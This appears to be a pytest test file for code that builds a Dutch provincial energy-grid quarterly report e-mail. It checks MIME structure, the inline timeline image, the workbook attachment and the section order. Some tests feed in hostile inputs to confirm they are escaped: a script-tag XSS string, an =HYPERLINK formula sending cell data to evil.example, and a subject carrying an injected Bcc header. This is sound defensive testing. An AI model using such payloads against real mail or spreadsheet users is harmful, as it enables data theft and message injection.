"""The quarterly e-mail as MIME (sync.kwartaal.bericht): structure, inline picture, escaping of fiche text."""

from __future__ import annotations

import datetime as dt
import email
import io
from email.policy import default as default_policy
from html.parser import HTMLParser

import pytest
from openpyxl import load_workbook

from fiche.errors import ConfigError
from sample_overzicht import HOSTILE_FORMULA, sample_overzicht
from sync.kwartaal.bericht import bouw_bericht, onderdelen, onderwerp
from sync.kwartaal.inhoud import bouw_rapport
from sync.kwartaal.tijdlijn import tijdlijn_png

AFZENDER = "pmiek-monitor@drenthe.nl"
ONTVANGERS = ["energy-board@drenthe.nl", "wip@drenthe.nl"]


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def master_van(overzicht, tmp_path) -> bytes:
    from sync.master import schrijf_master
    schrijf_master(overzicht, tmp_path / "master.xlsx")
    return (tmp_path / "master.xlsx").read_bytes()


@pytest.fixture(scope="module")
def bericht_en_master(tmp_path_factory):
    o = sample_overzicht()
    # A control character in a fiche text: illegal in HTML, must not reach the mail.
    o.projecten[0].knelpunten[0]["oplossing"] += "\x07 (bel)"
    r = bouw_rapport(o)
    master = master_van(o, tmp_path_factory.mktemp("master"))
    msg = bouw_bericht(r, tijdlijn_png(r.projecten, r.peildatum), master, afzender=AFZENDER, ontvangers=ONTVANGERS,
                       onderwerp_template="pMIEK {kwartaal} (peildatum {peildatum})",
                       message_id="<test-2026Q3@drenthe.nl>",
                       datum=dt.datetime(2026, 10, 5, 8, 0, tzinfo=dt.timezone.utc))
    # What a receiver sees: the bytes parsed back.
    return email.message_from_bytes(msg.as_bytes(), policy=default_policy), master


def test_mime_structure(bericht_en_master):
    msg, master = bericht_en_master
    structuur = [(p.get_content_type(), p.get_content_disposition()) for p in msg.walk()]
    assert structuur == [
        ("multipart/mixed", None),
        ("multipart/alternative", None),
        ("text/plain", None),
        ("multipart/related", None),
        ("text/html", None),
        ("image/png", "inline"),
        ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "attachment"),
    ]
    assert msg["Subject"] == "pMIEK Q3 2026 (peildatum 30 september 2026)"
    assert msg["From"] == AFZENDER and msg["To"] == ", ".join(ONTVANGERS)
    assert msg["Message-ID"] == "<test-2026Q3@drenthe.nl>"
    assert msg["X-Pmiek-Kwartaal"] == "2026Q3" and msg["Auto-Submitted"] == "auto-generated"
    assert email.utils.parsedate_to_datetime(msg["Date"]) == dt.datetime(2026, 10, 5, 8, 0, tzinfo=dt.timezone.utc)


def test_picture_is_inline_by_content_id_and_nothing_external(bericht_en_master):
    msg, _ = bericht_en_master
    d = onderdelen(msg)
    (cid, (png, soort, naam)), = d["inline"].items()
    assert png[:4] == b"\x89PNG" and soort == "image/png" and naam == "tijdlijn-2026Q3.png"
    p = Tags()
    p.feed(d["html"])
    imgs = [a for t, a in p.tags if t == "img"]
    assert [a["src"] for a in imgs] == [f"cid:{cid}"]
    # No external resources or scripts: Outlook blocks them and they could track readers.
    assert not [t for t, a in p.tags if t in ("script", "link", "iframe", "object", "style")]
    assert "http://" not in d["html"] and "https://" not in d["html"].replace("https://evil.example", "")


def test_attachment_is_the_master_workbook(bericht_en_master):
    msg, master = bericht_en_master
    (naam, data, soort), = onderdelen(msg)["bijlagen"]
    assert naam == "pMIEK-monitoring-2026Q3.xlsx" and data == master
    wb = load_workbook(io.BytesIO(data), read_only=True)
    assert "Plusprojecten" in wb.sheetnames and "Datakwaliteit" in wb.sheetnames


def test_hostile_fiche_text_is_escaped_and_inert(bericht_en_master):
    msg, _ = bericht_en_master
    d = onderdelen(msg)
    html_tekst = d["html"]
    assert "<script>" not in html_tekst
    assert "&lt;script&gt;alert(&#x27;pmiek&#x27;)&lt;/script&gt;</span> Vergunning loopt" in html_tekst
    # The formula is just text in a table cell: escaped quotes, no link made of it.
    # (The long unbroken token sits in a span that may break anywhere on a phone.)
    assert "=HYPERLINK(&quot;https://evil.example/steal?d=&quot;&amp;A1,&quot;Klik</span> hier voor details&quot;)" \
        in html_tekst
    p = Tags()
    p.feed(html_tekst)
    assert not [a for t, a in p.tags if t == "a"]
    assert all(not any(k.startswith("on") for k in a) for _, a in p.tags)  # no event handler attributes
    # The organisation "=1+1 Adviesbureau" is text too.
    assert "=1+1 Adviesbureau" in html_tekst
    # Control characters are gone from both parts.
    assert "\x07" not in html_tekst and "\x07" not in d["tekst"]
    assert "Bestuurlijk overleg met grondeigenaren via de gemeente. (bel)" in d["tekst"]
    # Plain text keeps the text as typed (a mail client shows it literally).
    assert HOSTILE_FORMULA in d["tekst"]


def test_plain_text_tells_the_same_story(bericht_en_master):
    msg, _ = bericht_en_master
    tekst = onderdelen(msg)["tekst"]
    r = bouw_rapport(sample_overzicht())
    assert tekst.startswith("pMIEK kwartaaloverzicht Q3 2026\nPeildatum: 30 september 2026\n\n"
                            "Aan de leden van de Energy Board en het WIP,\n")
    assert f"\n\n{r.samenvatting}\n\nGEVRAAGD VAN DE ENERGY BOARD\n" in tekst
    assert "- Concrete projecten (6): 1 rood, 2 oranje, 1 onbekend, 1 groen, 1 gerealiseerd" in tekst
    assert "- Verkenningen (4): 1 rood, 1 oranje, 1 onbekend, 1 groen" in tekst
    assert "- Prognose later: Deelnet Emmen: nieuwbouw station Emmen Noord 110/20 kV: +822 dagen (nu 30 juni 2033)" in tekst
    assert "- Zonder voorzitter: Nieuwbouw station Assen Zeijerveen (Zeijerveen 2): Projectteam heeft geen voorzitter." in tekst
    assert "samen 53,5 uur per week" in tekst
    for rij in r.plusprojecten:
        assert f"* {rij.project.projectnaam} [{rij.project.stoplicht.label}]" in tekst


def test_html_tells_the_same_story(bericht_en_master):
    msg, _ = bericht_en_master
    h = onderdelen(msg)["html"]
    r = bouw_rapport(sample_overzicht())
    assert "pMIEK kwartaaloverzicht Q3 2026" in h and "30 september 2026" in h
    for rij in r.plusprojecten:
        assert rij.project.projectnaam.replace("&", "&amp;") in h
    koppen = ["Gevraagd van de Energy Board", "Plusprojecten", "Wijzigingen sinds Q2 2026", "Tijdlijn",
              "Stoplichten", "Verkenningen", "Datakwaliteit", "Capaciteit"]
    # Decisions first, then the plusprojecten, then what changed, then the rest.
    plekken = [h.index(f">{kop}</h2>") for kop in koppen]
    assert plekken == sorted(plekken)
    assert "Aan de leden van de Energy Board en het WIP," in h
    assert "background-color:#F8696B" in h  # the red of the stoplicht, inline


def test_subject_template():
    r = bouw_rapport(sample_overzicht())
    assert onderwerp(None, r) == "pMIEK kwartaaloverzicht Q3 2026"
    assert onderwerp("{code}\r\nBcc: iedereen@example.org", r) == "2026Q3 Bcc: iedereen@example.org"
    with pytest.raises(ConfigError) as e:
        onderwerp("Overzicht {jaar}", r)
    assert e.value.key == "report.subject" and "{kwartaal}" in e.value.melding


def test_plain_text_leads_with_what_the_board_is_asked(bericht_en_master):
    msg, _ = bericht_en_master
    tekst = onderdelen(msg)["tekst"]
    koppen = ["GEVRAAGD VAN DE ENERGY BOARD", "PLUSPROJECTEN", "WIJZIGINGEN SINDS Q2 2026", "STOPLICHTEN",
              "VERKENNINGEN", "DATAKWALITEIT", "CAPACITEIT"]
    plekken = [tekst.index(f"\n{kop}\n") for kop in koppen]
    assert plekken == sorted(plekken)
    gevraagd = tekst[plekken[0]:plekken[1]]
    # Bargermeer is escalated to the Energy Board; Emmen Noord only to the WKI.
    assert "* Deelnet Emmen: nieuwbouw station omgeving Emmen Bargermeer 110/20 kV [Vertraagd], " \
        "geëscaleerd naar Energy Board" in gevraagd
    assert "Knelpunt: Locatie nog niet gekozen; Enexis nog in verkenning." in gevraagd
    assert "Oplossing: Versnellingsatelier met Enexis, TenneT en gemeente." in gevraagd
    assert "Gevraagd: Een besluit over de oplossing van het knelpunt, samen met Provincie Drenthe." in gevraagd
    assert "Emmen Noord" not in gevraagd
    # The toelichting is in the plusproject's card.
    assert "Toelichting: Vergunningprocedure loopt uit; grondverwerving nog niet rond." in tekst
    # New projects in one line, not one line each.
    assert "- Nieuw: 1 nieuw project (1 onbekend).\n" in tekst
    assert "Nieuw: MS-T" not in tekst


def test_size_is_bounded_at_a_thousand_projects(tmp_path):
    from sample_overzicht import groot_overzicht

    from sync.kwartaal.inhoud import MAX_DETAILS

    o = groot_overzicht(1000)
    r = bouw_rapport(o)
    assert r.aantal_concreet + r.aantal_verkenning == 1000
    # Counts cover everything; details only the most urgent MAX_DETAILS per section.
    assert r.aantal_plus == 400 and len(r.plusprojecten) == MAX_DETAILS
    assert r.aantal_gevraagd == 100 and len(r.gevraagd) == MAX_DETAILS
    assert len(r.wijziging_regels) == MAX_DETAILS and r.aantal_wijzigingen == 1200
    assert r.nieuw_regel == "100 nieuwe projecten (100 onbekend)."
    # The timeline shows what the e-mail details, worst first.
    assert len(r.projecten) <= 3 * MAX_DETAILS
    ernst = [p.stoplicht.ernst for p in r.projecten]
    assert ernst == sorted(ernst, reverse=True)
    msg = bouw_bericht(r, tijdlijn_png(r.projecten, r.peildatum), b"", afzender=AFZENDER, ontvangers=ONTVANGERS,
                       datum=dt.datetime(2026, 10, 5, 8, 0, tzinfo=dt.timezone.utc))
    grootte = len(msg.as_bytes())
    assert grootte < 1_000_000, grootte
    d = onderdelen(msg)
    assert "En nog 388: het bijgevoegde masterwerkboek (pMIEK-monitoring-2026Q3.xlsx, blad Plusprojecten)" in d["tekst"]
    assert "En nog 388: het bijgevoegde masterwerkboek" in d["html"]
